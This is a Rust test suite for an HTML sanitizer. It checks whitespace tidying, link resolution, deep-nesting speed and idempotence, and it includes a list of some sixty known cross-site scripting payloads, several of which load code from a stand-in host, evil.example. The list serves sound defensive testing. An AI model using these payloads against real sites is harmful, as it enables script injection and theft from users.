//! What passes the gate, in which spelling, and what never does.

use proptest::prelude::*;

use super::*;

#[test]
fn what_may_pass_is_listed_in_order() {
    assert!(ELEMENTS.is_sorted(), "tidying finds names by binary search");
}

#[test]
fn one_spelling_whatever_the_white_space() {
    for (html, expected) in [
        ("<p> a\n  b </p>\n\n <p>c</p>", "<p>a b</p><p>c</p>"),
        ("<p>a <b> b </b> c</p>", "<p>a <b>b</b> c</p>"),
        ("<p>a<b> </b>c<i></i></p><p>&nbsp;<br></p>", "<p>a c</p>"),
        ("<!-- x --><p>a<!-- y --> b</p>", "<p>a b</p>"),
        ("<div><div><p></p></div></div>", ""),
        ("<pre>\n a\n  b\n</pre>", "<pre> a\n  b\n</pre>"),
        ("a<br> b", "a<br>b"),
        ("<center>a</center><form>b</form>c", "<div>a</div><div>b</div>c"),
        (
            "<table><tr><td></td><td>a</td></tr></table>",
            "<table><tbody><tr><td></td><td>a</td></tr></tbody></table>",
        ),
        ("<p class=a id=b style='x:y' onclick=z lang=fr>a</p>", "<p lang=\"fr\">a</p>"),
        ("a &lt;b&gt; &amp;amp; \u{a0}c", "a &lt;b&gt; &amp;amp; c"),
    ] {
        assert_eq!(sanitize(html), expected, "{html}");
    }
}

#[test]
fn addresses_mean_the_same_everywhere_or_go() {
    let base = Url::parse("https://estuary.example.org/news/1").unwrap();
    for (html, expected) in [
        ("<a href='/tides'>a</a>", "<a href=\"https://estuary.example.org/tides\">a</a>"),
        ("<a href='2'>a</a>", "<a href=\"https://estuary.example.org/news/2\">a</a>"),
        ("<a href='#top'>a</a>", "<a>a</a>"),
        ("<a href='ftp://x.example/'>a</a>", "<a>a</a>"),
        ("<a href='mailto:a@example.org'>a</a>", "<a href=\"mailto:a@example.org\">a</a>"),
        (
            "<img src='//cdn.example.org/a.jpg' alt='A  gull'>",
            "<img src=\"https://cdn.example.org/a.jpg\" alt=\"A gull\">",
        ),
        ("a<img src='data:image/png;base64,AAAA'>", "a"),
        ("a<img src='https://t.example/p' width=1 height=1>", "a"),
    ] {
        assert_eq!(sanitize_with_base(html, Some(&base)), expected, "{html}");
    }
    assert_eq!(sanitize("<a href='/tides'>a</a><img src='/b.png'>"), "<a>a</a>");
}

#[test]
fn a_reader_sees_blocks_on_lines_of_their_own() {
    let html = "<h2>Tides</h2><p>High <b>water</b>s at\n noon.<br>Low later.</p><ul><li>one</li><li>two</li></ul>\
                <table><tr><td>a</td><td>b</td></tr></table>";
    assert_eq!(visible_text(html), "Tides\nHigh waters at noon.\nLow later.\none\ntwo\na\nb");
    assert_eq!(visible_text(""), "");
}

#[test]
fn nesting_without_end_is_done_quickly() {
    let start = std::time::Instant::now();
    for tag in ["div", "b", "p", "table", "a", "blockquote", "ul><li", "font", "td", "em><p"] {
        let names: Vec<_> = tag.rsplit("><").map(|name| format!("</{name}>")).collect();
        let open = format!("<{tag}>").repeat(20_000);
        assert_eq!(visible_text(&sanitize(&format!("{open}deep"))), "deep", "{tag}");
        assert_eq!(visible_text(&sanitize(&format!("{open}deep{}", names.concat().repeat(20_000)))), "deep");
    }
    // Work that grows with the square of the depth takes minutes, even optimised.
    assert!(start.elapsed().as_secs() < 120, "took {:?}", start.elapsed());
}

/// Ways in which markup has been made to act, each in the words of those who found it.
const ACTIVE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/xss src=//evil.example></script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">a</a>",
    "<a href=\"java\tscript:alert(1)\">a</a>",
    "<a href=\"\u{1}javascript:alert(1)\">a</a>",
    "<a href=\"vbscript:msgbox(1)\">a</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "<a href=\"feed:javascript:alert(1)\">a</a>",
    "<a href=\"blob:https://x.example/1\">a</a>",
    "<a href=//x.example onclick=alert(1) target=_blank>a</a>",
    "<a href=http:evil.example>a</a>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form action=//evil.example><input type=submit><button formaction=javascript:alert(1)>a</button></form>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">a</div>",
    "<div style=\"position:fixed;inset:0\">a</div>",
    "<p id=login class=admin name=token>a</p>",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">a",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio autoplay src=//evil.example/a.mp3></audio>",
    "<blockquote cite=\"javascript:alert(1)\">a</blockquote>",
    "<time datetime=\"2018\" onmouseover=alert(1)>a</time>",
    "<x-element onclick=alert(1)>a</x-element>",
    "<p/onclick=alert(1)//>a",
    "<a href=\"https://x.example/\" href=\"javascript:alert(1)\">a</a>",
    "<a href='https://x.example/\"onmouseover=alert(1) x=\"'>a</a>",
];

/// What in `html` would act, fetch from where it should not, or disguise, when read back.
fn active(html: &str) -> Vec<String> {
    let tree = Tree::parse(html);
    let mut found = Vec::new();
    for id in 1..tree.len() {
        let name = tree.name(id);
        if name != "#text" && (!ELEMENTS.contains(&name) || CONTENT_TOO.contains(&name)) {
            found.push(format!("<{name}>"));
        }
        let allowed =
            ATTRIBUTES.iter().find(|(element, _)| *element == name).map_or(&[][..], |(_, names)| names);
        for (attribute, value) in tree.attributes(id) {
            let address = matches!(attribute, "href" | "src" | "cite");
            let leads = |scheme: &&str| value.starts_with(&format!("{scheme}:"));
            let inert = !address || SCHEMES.iter().any(leads);
            if !inert || !(allowed.contains(&attribute) || matches!(attribute, "lang" | "dir")) {
                found.push(format!("{attribute}={value}"));
            }
        }
    }
    found
}

#[test]
fn nothing_that_arrives_is_left_active() {
    assert!(ACTIVE.len() >= 60);
    let base = Url::parse("https://estuary.example.org/").unwrap();
    for vector in ACTIVE {
        let surrounded = format!("<p>before {vector} after</p><table><tr><td>{vector}");
        for html in [*vector, surrounded.as_str()] {
            for base in [None, Some(&base)] {
                let clean = sanitize_with_base(html, base);
                assert_eq!(active(&clean), Vec::<String>::new(), "{html} gave {clean}");
                assert!(!clean.contains("<!--"), "{html} gave {clean}");
                assert_eq!(sanitize_with_base(&clean, base), clean, "{html}");
            }
        }
    }
}

/// Markup as it goes wrong: known tags in any order, closed or not.
fn tag_soup() -> impl Strategy<Value = String> {
    let tag = prop_oneof![
        proptest::sample::select(&ELEMENTS[..]).prop_map(|name| format!("<{name}>")),
        proptest::sample::select(&ELEMENTS[..]).prop_map(|name| format!("</{name}>")),
        proptest::sample::select(
            &[
                "<a href=/x>",
                "<img src=//a/b>",
                "<svg>",
                "</svg>",
                "<math><mtext>",
                "<style>",
                "</style>",
                "<template>",
                "<!--",
                "-->",
                "<select>",
                "<ruby>",
                "<rt>",
                "<plaintext>",
                "<noscript>",
                "<html>",
                " ",
                "\n",
                "&nbsp;",
                "&lt;",
                "<",
                "x",
                "word word",
                "<![CDATA[",
                "]]>",
                "<title>",
                "<textarea>",
            ][..]
        )
        .prop_map(String::from),
    ];
    proptest::collection::vec(tag, 0..24).prop_map(|tags| tags.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn sanitising_again_changes_nothing(html in tag_soup()) {
        let once = sanitize(&html);
        prop_assert_eq!(active(&once), Vec::<String>::new());
        prop_assert_eq!(sanitize(&once), once);
    }

    #[test]
    fn sanitising_any_text_again_changes_nothing(html in "[<>/a-p \"'=&;!\\-\n\u{a0}]{0,60}") {
        let once = sanitize(&html);
        prop_assert_eq!(sanitize(&once), once);
    }

    #[test]
    fn words_are_written_with_one_space_between_them(
        // Long stretches that stand as they should, and what may be wrong at any place between them.
        text in proptest::collection::vec(prop_oneof![
            "[a-c ]{0,80}",
            "[語のé’]{0,24}",
            "[ \\t\\n\\r\\x0b\\x0c&<>a\u{1c}\u{85}\u{a0}ß\u{1680}\u{2003}\u{2028}\u{205f}\u{3000}\u{feff}]{0,6}",
        ], 0..6).prop_map(|parts| parts.concat()),
        spaced in any::<bool>(),
    ) {
        let (mut written, mut expected) = (String::new(), String::new());
        tidy::write_words(text.trim(), spaced, &mut written);
        let words: Vec<&str> = text.split_whitespace().collect();
        if spaced && !words.is_empty() {
            expected.push(' ');
        }
        escape(&words.join(" "), false, &mut expected);
        prop_assert_eq!(written, expected);
    }
}

#[test]
fn what_stands_for_escapes_is_no_way_around_them() {
    let many = "<b>x</b>".repeat(300);
    for (html, expected) in [
        ("a &lt;b&gt; &amp; c &amp;lt;", "a &lt;b&gt; &amp; c &amp;lt;"),
        ("\u{fdd1}script\u{fdd2}alert(1)\u{fdd1}/script\u{fdd2}", "scriptalert(1)/script"),
        ("\u{fdd0}lt;", "lt;"),
    ] {
        let clean = sanitize(&format!("{many}<p>{html}</p>"));
        assert!(clean.ends_with(&format!("<p>{expected}</p>")), "{clean}");
        assert_eq!(sanitize(&clean), clean);
    }
}
